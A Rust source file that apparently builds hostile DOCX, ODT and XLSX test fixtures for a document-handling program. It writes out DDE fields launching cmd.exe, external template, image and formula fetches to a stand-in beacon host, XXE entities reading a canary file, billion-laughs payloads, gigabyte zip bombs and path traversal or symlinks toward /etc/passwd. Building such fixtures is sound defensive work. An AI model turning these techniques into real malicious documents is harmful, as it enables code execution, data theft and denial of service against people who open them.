//! Hostile documents of office programs: what fetches, what runs, what is hidden, and packages that lie.

use super::make::{Entry, File, Seed, Traps, deflated_blanks, file, zip};
use super::xml::attacks;

const WORD: &str = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
    xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
const KINDS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn relations(rows: &str) -> String {
    format!(
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{rows}</Relationships>"
    )
}

fn relation(id: &str, kind: &str, target: &str, mode: &str) -> String {
    format!("<Relationship Id=\"{id}\" Type=\"{KINDS}/{kind}\" Target=\"{target}\"{mode}/>")
}

const OUTSIDE: &str = " TargetMode=\"External\"";

fn types(main: &str) -> Entry {
    let kind = format!("application/vnd.openxmlformats-officedocument.{main}.main+xml");
    Entry::new(
        "[Content_Types].xml",
        format!(
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/x\" ContentType=\"{kind}\"/></Types>"
        ),
    )
}

fn p(words: &str) -> String {
    format!("<w:p><w:r><w:t>{words}</w:t></w:r></w:p>")
}

fn story(body: &str) -> String {
    format!("<?xml version=\"1.0\"?><w:document {WORD}><w:body>{body}</w:body></w:document>")
}

/// A DOCX with this main part, these relationships of it and these further parts.
fn docx(main: impl AsRef<[u8]>, related: &str, more: Vec<Entry>) -> Vec<u8> {
    let mut entries = vec![
        types("wordprocessingml.document"),
        Entry::new("_rels/.rels", relations(&relation("r0", "officeDocument", "word/document.xml", ""))),
        Entry::new("word/document.xml", main),
    ];
    if !related.is_empty() {
        entries.push(Entry::new("word/_rels/document.xml.rels", relations(related)));
    }
    entries.extend(more);
    zip(&entries)
}

/// All of them.
pub fn office(seed: &mut Seed, traps: &Traps) -> Vec<File> {
    let mut out = Vec::new();
    word(seed, traps, &mut out);
    packages(seed, &mut out);
    writer(seed, traps, &mut out);
    sheets(seed, traps, &mut out);
    out
}

fn word(seed: &mut Seed, traps: &Traps, out: &mut Vec<File>) {
    let mut put = |name: &str, bytes: Vec<u8>| out.push(file(format!("{name}.docx"), bytes));
    let mut one = |more: &str| story(&(p(&seed.words()) + more));
    put("plain", docx(one(""), "", vec![]));
    let attacks = attacks("words", traps);
    for wanted in ["laughs", "entity_of_file", "entity_of_address", "attributes", "deep", "undefined"] {
        let (_, attack) = attacks.iter().find(|(name, _)| *name == wanted).unwrap();
        put(wanted, docx(attack, "", vec![]));
    }
    let beacon = &traps.beacon;
    let template = relation("t", "attachedTemplate", &format!("http://{beacon}/template.dotm"), OUTSIDE);
    let settings =
        || Entry::new("word/settings.xml", format!("<w:settings {WORD}><w:attachedTemplate r:id=\"t\"/></w:settings>"));
    let beside = |rows: &str| Entry::new("word/_rels/settings.xml.rels", relations(rows));
    put("template", docx(one(""), &relation("s", "settings", "settings.xml", ""), vec![settings(), beside(&template)]));
    let share = relation("t", "attachedTemplate", "file://\\\\beacon.invalid\\share\\t.dotm", OUTSIDE);
    put(
        "template_share",
        docx(one(""), &relation("s", "settings", "settings.xml", ""), vec![settings(), beside(&share)]),
    );
    put(
        "picture_elsewhere",
        docx(one(""), &relation("i", "image", &format!("http://{beacon}/i.png"), OUTSIDE), vec![]),
    );
    put("frame_elsewhere", docx(one(""), &relation("f", "frame", &format!("http://{beacon}/f.html"), OUTSIDE), vec![]));
    put(
        "object_elsewhere",
        docx(one(""), &relation("o", "oleObject", &format!("file://{}", traps.canary), OUTSIDE), vec![]),
    );
    let chunk = relation("a", "aFChunk", "chunk.html", "");
    let html = Entry::new("word/chunk.html", "<p>another format</p><img src=http://a.invalid>");
    put("other_format", docx(one("<w:altChunk r:id=\"a\"/>"), &chunk, vec![html]));
    let field = |instruction: &str| {
        let c = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
        format!(
            "<w:p>{}<w:r><w:instrText>{instruction}</w:instrText></w:r>{}<w:r><w:t>result</w:t></w:r>{}</w:p>",
            c("begin"),
            c("separate"),
            c("end")
        )
    };
    put("field_dde", docx(one(&field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")), "", vec![]));
    put("field_picture", docx(one(&field(&format!("INCLUDEPICTURE \"http://{beacon}/p.png\" \\d"))), "", vec![]));
    put("field_open", docx(one(&field("DDE x").replace("end", "begin")), "", vec![]));
    put("hidden", docx(one("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r></w:p>"), "", vec![]));
    put("deleted", docx(one("<w:p><w:del><w:r><w:delText>gone</w:delText></w:r></w:del></w:p>"), "", vec![]));
    put("macros", docx(one(""), "", vec![Entry::new("word/vbaProject.bin", "no macro")]));
    put("embedded", docx(one(""), "", vec![Entry::new("word/embeddings/o.bin", "no object")]));
    let tables =
        |n: usize| format!("{}{}{}", "<w:tbl><w:tr><w:tc>".repeat(n), p("in"), "</w:tc></w:tr></w:tbl>".repeat(n));
    put("tables_deep", docx(one(&tables(3_000)), "", vec![]));
    put("tables_80", docx(one(&tables(80)), "", vec![]));
    let many: String = (0..60_000).map(|n| p(&format!("{n:x}"))).collect();
    put("paragraphs_many", docx(one(&many), "", vec![]));
    let comments = Entry::new(
        "word/comments.xml",
        format!("<w:comments {WORD}><w:comment>{}</w:comment></w:comments>", p("aside")),
    );
    put("comments", docx(one(""), &relation("c", "comments", "comments.xml", ""), vec![comments]));
}

fn packages(seed: &mut Seed, out: &mut Vec<File>) {
    let mut put = |name: &str, bytes: Vec<u8>| out.push(file(format!("{name}.docx"), bytes));
    let mut main = || story(&p(&seed.words()));
    let (packed, crc) = deflated_blanks(1 << 30);
    let bomb = Entry::packed("word/document.xml", packed, crc, 1 << 30);
    let root = |target: &str| Entry::new("_rels/.rels", relations(&relation("r0", "officeDocument", target, "")));
    let main_types = || types("wordprocessingml.document");
    put("bomb", zip(&[main_types(), root("word/document.xml"), bomb]));
    put("root_up", zip(&[main_types(), root("../../../../etc/passwd"), Entry::new("word/document.xml", main())]));
    put("root_lost", zip(&[main_types(), root("word/none.xml")]));
    put("name_up", docx(main(), "", vec![Entry::new("../evil.xml", "x")]));
    put("twins", docx(main(), "", vec![Entry::new("WORD/DOCUMENT.XML", main())]));
    put("link", docx(main(), "", vec![Entry::new("word/l", "/etc/passwd").with(|e| e.mode = 0o120_777)]));
    put("locked", docx(main(), "", vec![Entry::new("word/x.xml", "x").with(|e| e.flags |= 1)]));
    put(
        "two_names",
        docx(main(), "", vec![Entry::new("word/x.xml", "x").with(|e| e.local_name = Some(b"word/y.xml".to_vec()))]),
    );
    let whole = docx(main(), "", vec![]);
    put("cut", whole[..whole.len() / 2].to_vec());
}

fn writer(seed: &mut Seed, traps: &Traps, out: &mut Vec<File>) {
    let mut put = |name: &str, bytes: Vec<u8>| out.push(file(format!("{name}.odt"), bytes));
    let names: String = ["office", "text", "table", "draw", "script"]
        .iter()
        .map(|n| {
            format!(
                " xmlns:{n}=\"urn:oasis:names:tc:opendocument:xmlns:{}:1.0\"",
                if *n == "draw" { "drawing" } else { n }
            )
        })
        .collect();
    let mut content = |more: &str| {
        let words = seed.words();
        format!(
            "<?xml version=\"1.0\"?><office:document-content{names} xmlns:xlink=\"http://www.w3.org/1999/xlink\"><office:body><office:text><text:p>{words}</text:p>{more}</office:text></office:body></office:document-content>"
        )
    };
    let odt = |content: &[u8], more: Vec<Entry>| {
        let mut entries = vec![
            Entry::stored("mimetype", "application/vnd.oasis.opendocument.text"),
            Entry::new("content.xml", content),
        ];
        entries.extend(more);
        zip(&entries)
    };
    put("plain", odt(content("").as_bytes(), vec![]));
    let attacks = attacks("words", traps);
    for wanted in ["laughs", "entity_of_file", "deep"] {
        let (_, attack) = attacks.iter().find(|(name, _)| *name == wanted).unwrap();
        put(wanted, odt(attack, vec![]));
    }
    let picture =
        format!("<text:p><draw:frame><draw:image xlink:href=\"http://{}/i.png\"/></draw:frame></text:p>", traps.beacon);
    put("picture_elsewhere", odt(content(&picture).as_bytes(), vec![]));
    let section = format!("<text:section><text:section-source xlink:href=\"file://{}\"/></text:section>", traps.canary);
    put("section_elsewhere", odt(content(&section).as_bytes(), vec![]));
    put(
        "section_hidden",
        odt(content("<text:section text:display=\"none\"><text:p>unseen</text:p></text:section>").as_bytes(), vec![]),
    );
    put("blanks", odt(content("<text:p>a<text:s text:c=\"4000000000\"/>b</text:p>").as_bytes(), vec![]));
    let cells = "<table:table><table:table-column table:number-columns-repeated=\"4000000000\"/><table:table-row><table:table-cell \
        table:number-columns-repeated=\"4000000000\"><text:p>x</text:p></table:table-cell></table:table-row></table:table>";
    put("cells", odt(content(cells).as_bytes(), vec![]));
    put("macros", odt(content("").as_bytes(), vec![Entry::new("Basic/Standard/Module1.xml", "<x/>")]));
    let (packed, crc) = deflated_blanks(1 << 28);
    put("bomb", odt(content("").as_bytes(), vec![Entry::packed("styles.xml", packed, crc, 1 << 28)]));
    let locked = "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>";
    put("locked", odt(content("").as_bytes(), vec![Entry::new("META-INF/manifest.xml", locked)]));
}

fn sheets(seed: &mut Seed, traps: &Traps, out: &mut Vec<File>) {
    let mut put = |name: &str, bytes: Vec<u8>| out.push(file(format!("{name}.xlsx"), bytes));
    const MAIN: &str = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    let book = |sheet: &[u8], state: &str, more: Vec<Entry>| {
        let workbook = format!(
            "<workbook {MAIN} xmlns:r=\"{KINDS}\"><sheets><sheet name=\"One\" sheetId=\"1\"{state} r:id=\"r1\"/></sheets></workbook>"
        );
        let mut entries = vec![
            types("spreadsheetml.sheet"),
            Entry::new("_rels/.rels", relations(&relation("r0", "officeDocument", "xl/workbook.xml", ""))),
            Entry::new("xl/workbook.xml", workbook),
            Entry::new(
                "xl/_rels/workbook.xml.rels",
                relations(&relation("r1", "worksheet", "worksheets/sheet1.xml", "")),
            ),
            Entry::new("xl/worksheets/sheet1.xml", sheet),
        ];
        entries.extend(more);
        zip(&entries)
    };
    let mut sheet = |cells: &str| {
        let words = seed.words();
        format!("<worksheet {MAIN}><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{words}</t></is></c>{cells}</row></sheetData></worksheet>").into_bytes()
    };
    put("plain", book(&sheet(""), "", vec![]));
    let fetching = format!("<c r=\"B1\" t=\"str\"><f>WEBSERVICE(\"http://{}/cell\")</f><v>kept</v></c>", traps.beacon);
    put("formula", book(&sheet(&fetching), "", vec![]));
    put("formula_alone", book(&sheet("<c r=\"B1\"><f>1+1</f></c>"), "", vec![]));
    let link = Entry::new(
        "xl/externalLinks/externalLink1.xml",
        format!("<externalLink {MAIN}><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"),
    );
    put("link", book(&sheet(""), "", vec![link]));
    put("hidden", book(&sheet(""), " state=\"hidden\"", vec![]));
    put("far_cell", book(&sheet("<c r=\"ZZZZ9999999\"><v>1</v></c>"), "", vec![]));
    let far = sheet("<c r=\"XFD1048576\"><v>1</v></c>");
    put("far_corner", book(&far, "", vec![]));
    let strings = format!("<sst {MAIN} count=\"4000000000\" uniqueCount=\"4000000000\"><si><t>x</t></si></sst>");
    put("strings_claimed", book(&sheet(""), "", vec![Entry::new("xl/sharedStrings.xml", strings)]));
    let entity = format!("<!DOCTYPE worksheet [<!ENTITY c SYSTEM \"file://{}\">]>", traps.canary);
    let reading = String::from_utf8(sheet("<c r=\"B1\" t=\"inlineStr\"><is><t>&c;</t></is></c>")).unwrap();
    put("entity_of_file", book((entity + &reading).as_bytes(), "", vec![]));
    let (packed, crc) = deflated_blanks(1 << 30);
    put("bomb", book(&sheet(""), "", vec![Entry::packed("xl/comments1.xml", packed, crc, 1 << 30)]));
    put("macros", book(&sheet(""), "", vec![Entry::new("xl/vbaProject.bin", "no macro")]));
}
